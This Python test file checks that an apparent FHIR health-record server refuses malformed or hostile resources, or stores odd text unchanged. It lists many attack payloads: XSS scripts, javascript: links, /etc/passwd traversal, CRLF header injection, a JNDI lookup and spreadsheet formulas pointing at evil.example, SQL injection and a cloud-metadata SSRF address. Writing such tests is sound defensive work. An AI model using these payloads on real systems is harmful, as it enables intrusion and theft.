"""Resources that are JSON, and no FHIR that we take."""

from typing import Any

from tests.referral.hostile.targets import Attack, Target, check, each, sent

CHILD = {"resourceType": "Patient", "name": [{"family": "Okoro"}]}
ELSEWHERE = {"reference": "Patient/00000000-0000-7000-8000-000000000000"}


def child(**parts: Any) -> dict[str, Any]:
    return {**CHILD, **parts}


def observation(**parts: Any) -> dict[str, Any]:
    return {"resourceType": "Observation", "status": "final", "code": {"text": "Words"}, **parts}


def document(**parts: Any) -> dict[str, Any]:
    return {
        "resourceType": "DocumentReference",
        "status": "current",
        "content": [{"attachment": parts}],
    }


def contained(*inside: Any, reference: str = "#a") -> dict[str, Any]:
    return child(contained=list(inside), managingOrganization={"reference": reference})


def nested(depth: int) -> Any:
    extension: Any = {"url": "https://evil.example/x", "valueString": "x"}
    for _ in range(depth):
        extension = {"url": "https://evil.example/x", "extension": [extension]}
    return extension


REFUSED = (
    Attack("no type", {}, 422, "required", "resourceType"),
    Attack("a type that is none", {"resourceType": "Child"}, 400, "structure", "resourceType"),
    Attack("a type that is a list", {"resourceType": ["Patient"]}, 422, "required", "resourceType"),
    Attack("the type of another address", observation(), 422, "value", "resourceType"),
    Attack("__proto__", child(__proto__={"admin": True}), 400, "structure", "Patient.__proto__"),
    Attack("an owner", child(owner="me"), 400, "structure", "Patient.owner"),
    Attack("tags of ours", child(tags=["area:Anyshire"]), 400, "structure", "Patient.tags"),
    Attack("null", child(name=None), 400, "structure", "Patient.name"),
    Attack("an empty list", child(name=[]), 400, "structure", "Patient.name"),
    Attack("an empty object", child(name=[{}]), 400, "structure", "Patient.name[0]"),
    Attack("an empty text", child(gender=""), 400, "structure", "Patient.gender"),
    Attack("a boolean in quotes", child(active="true"), 422, "value", "Patient.active"),
    Attack("a number for a boolean", child(active=1), 400, "structure", "Patient.active"),
    Attack("a number for a text", child(gender=7), 400, "structure", "Patient.gender"),
    Attack("an object for a list", child(name={"family": "x"}), 400, "structure", "Patient.name"),
    Attack("a list for an object", child(maritalStatus=[]), 400, "structure",
           "Patient.maritalStatus"),
    Attack("a list of lists", child(name=[[[{"family": "x"}]]]), 400, "structure",
           "Patient.name[0]"),
    Attack("the year 0", child(birthDate="0000-01-01"), 422, "value", "Patient.birthDate"),
    Attack("30 February", child(birthDate="2023-02-30"), 422, "value", "Patient.birthDate"),
    Attack("the year 9999", child(birthDate="9999-12-31"), 422, "value", "Patient.birthDate"),
    Attack("the year 10000", child(birthDate="10000-01-01"), 422, "value", "Patient.birthDate"),
    Attack("other digits", child(birthDate="\uff12\uff10\uff12\uff13-01-01"), 422, "value",
           "Patient.birthDate"),
    Attack("an offset of +14:60", observation(effectiveDateTime="2026-01-01T00:00:00+14:60"),
           422, "value", "Observation.effectiveDateTime", "/Observation"),
    Attack("no offset", observation(effectiveDateTime="2026-01-01T00:00:00"),
           422, "value", "Observation.effectiveDateTime", "/Observation"),
    Attack("a leap second", observation(effectiveDateTime="2026-12-31T23:59:60Z"),
           422, "value", "Observation.effectiveDateTime", "/Observation"),
    Attack("two values", observation(valueString="x", valueInteger=1),
           400, "structure", "Observation.value", "/Observation"),
    Attack("an integer too large", observation(valueInteger=2**31),
           400, "structure", "Observation.valueInteger", "/Observation"),
    Attack("a script in the narrative", child(
        text={"status": "generated", "div": "<div><script>alert(1)</script></div>"}
    ), 422, "value", "Patient.text.div"),
    Attack("an image that fails", child(
        text={"status": "generated", "div": "<div><img src=x onerror=alert(1)></div>"}
    ), 422, "value", "Patient.text.div"),
    Attack("a link to a script", document(url="javascript:alert(1)"),
           422, "value", "DocumentReference.content[0].attachment.url", "/DocumentReference"),
    Attack("a link to data", document(url="data:text/html,<script>"),
           422, "value", "DocumentReference.content[0].attachment.url", "/DocumentReference"),
    Attack("a script in capitals", document(url="JaVaScRiPt:alert(1)"),
           422, "value", "DocumentReference.content[0].attachment.url", "/DocumentReference"),
    Attack("bad base64", document(data="%%%"),
           422, "value", "DocumentReference.content[0].attachment.data", "/DocumentReference"),
    Attack("an id of 65", child(id="a" * 65), 422, "value", "Patient.id"),
    Attack("an id with dots and slashes", child(id="../../etc"), 422, "value", "Patient.id"),
    Attack("an id with a line", child(id="a\r\nSet-Cookie: b"), 422, "value", "Patient.id"),
    Attack("an id in Greek", child(id="αβγ"), 422, "value", "Patient.id"),
    Attack("an extension without end", child(extension=[nested(40)]), 400, "too-costly", ""),
    Attack("an extension without a url", child(extension=[{"valueString": "x"}]),
           422, "required", "Patient.extension[0].url"),
    Attack("a contained thing in itself", contained(
        {"resourceType": "Organization", "id": "a", "contained": [
            {"resourceType": "Organization", "id": "b", "name": "B"}]}
    ), 422, "invariant", "Patient.contained[0].contained"),
    Attack("a contained thing that is not there", contained(
        {"resourceType": "Organization", "id": "b", "name": "B"}
    ), 422, "value", "Patient.managingOrganization.reference"),
    Attack("a contained type that is none", contained({"resourceType": "Evil", "id": "a"}),
           422, "structure", "Patient.contained[0]"),
    Attack("two contained of one id", contained(
        {"resourceType": "Organization", "id": "a", "name": "A"},
        {"resourceType": "Organization", "id": "a", "name": "B"},
    ), 422, "duplicate", "Patient.contained[1].id"),
    Attack("a subject of the wrong type", observation(subject={"reference": "Task/1"}),
           422, "value", "Observation.subject.reference", "/Observation"),
    Attack("a child nobody knows", observation(subject=ELSEWHERE),
           422, "not-found", "Observation.subject", "/Observation"),
    Attack("a reference up the folders", observation(subject={"reference": "../../etc/passwd"}),
           422, "value", "Observation.subject.reference", "/Observation"),
    Attack("a file", observation(subject={"reference": "file:///etc/passwd"}),
           422, "value", "Observation.subject.reference", "/Observation"),
    Attack("a reference to a script", observation(subject={"reference": "javascript:alert(1)"}),
           422, "value", "Observation.subject.reference", "/Observation"),
    Attack("a reference with a line", observation(subject={"reference": "Patient/1\r\nX: y"}),
           422, "value", "Observation.subject.reference", "/Observation"),
    Attack("a Task of their own", {"resourceType": "Task", "status": "accepted", "intent": "order"},
           422, "business-rule", "Task", "/Task"),
)  # fmt: skip


@each(*REFUSED)
def test_it_is_refused_with_its_place_and_nothing_is_written(
    target: Target, attack: Attack
) -> None:
    with target.unchanged():
        check(sent(target, attack), attack)


FAITHFUL = (
    Attack("a formula", child(name=[{"family": '=HYPERLINK("https://evil.example")'}]), 201),
    Attack("a plus", child(name=[{"family": "+1+cmd|' /C calc'!A0"}]), 201),
    Attack("SQL", child(name=[{"family": "Robert'); DROP TABLE resource;--"}]), 201),
    Attack("a template", child(name=[{"family": "{{7*7}} ${7*7} #{7*7}"}]), 201),
    Attack("a log line", child(name=[{"family": "${jndi:ldap://evil.example/a}"}]), 201),
    Attack("right to left", child(name=[{"family": "Oko\u202eoro"}]), 201),
    Attack("zero width", child(name=[{"family": "Oko\u200b\u200dro"}]), 201),
    Attack("many accents", child(name=[{"family": "Z" + "\u0301" * 5000}]), 201),
    Attack("an emoji family", child(name=[{"family": "👨‍👩‍👧"}]), 201),
    Attack("markup", child(name=[{"family": "<script>alert(1)</script>"}]), 201),
    Attack("a link elsewhere that we never follow", observation(
        subject={"reference": "http://169.254.169.254/latest/Patient/1"}), 201,
        path="/Observation"),
    Attack("a child elsewhere", observation(
        subject={"reference": "https://elsewhere.example/fhir/Patient/1"}), 201,
        path="/Observation"),
    Attack("itself", contained({"resourceType": "Organization", "id": "a", "name": "A",
                                "partOf": {"reference": "#a"}}), 201),
    Attack("a digit of every size", observation(valueQuantity={"value": 1e-17}), 201,
           path="/Observation"),
)  # fmt: skip


@each(*FAITHFUL)
def test_odd_text_is_only_text_and_comes_back_as_it_was_sent(
    target: Target, attack: Attack
) -> None:
    answer = sent(target, attack)
    check(answer, attack)
    kept = target.nursery.get(answer.headers["location"].removeprefix("/fhir")).json()
    assert {key: kept[key] for key in attack.body} == attack.body


SERVER_OWNED = {
    "id": "mine",
    "meta": {"versionId": "99", "lastUpdated": "2001-01-01T00:00:00Z"},
}


def test_nobody_chooses_the_id_version_or_time_of_a_new_record(target: Target) -> None:
    made = target.nursery.post("/Patient", child(**SERVER_OWNED)).json()
    assert made["id"] != "mine"
    assert made["meta"]["versionId"] == "1"
    assert made["meta"]["lastUpdated"].startswith("2026-11-20")
